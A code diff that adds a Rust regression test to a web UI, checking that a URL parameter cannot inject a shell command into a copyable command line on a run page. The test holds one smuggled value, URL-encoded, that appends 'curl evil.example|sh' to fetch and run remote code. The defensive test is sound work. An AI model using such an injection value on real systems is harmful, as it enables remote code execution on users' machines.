@@ -107,6 +107,18 @@ fn a_run_that_ended_with_its_server_can_be_begun_again() {
     }
 }
 
+/// Guard: what a link brings stood unquoted in a command to copy.
+#[test]
+fn s6_a_link_to_a_run_brings_no_command_to_copy() {
+    let server = guarded();
+    let admin = Browser::of(&server, "admin");
+    let evil = "1h%3B%20curl%20evil.example%7Csh%20%23";
+    let page = admin.get(&format!("/ui/runs/a?consumer=c&from={evil}")).expect(404).text;
+    assert!(!page.contains("curl evil"), "{page}");
+    let page = admin.get("/ui/runs/a?consumer=c&from=1h").expect(404).text;
+    assert!(page.contains("--from 1h"), "{page}");
+}
+
 #[test]
 fn the_last_change_of_settings_is_told_as_far_as_the_audit_log_has_it() {
     let server = guarded();
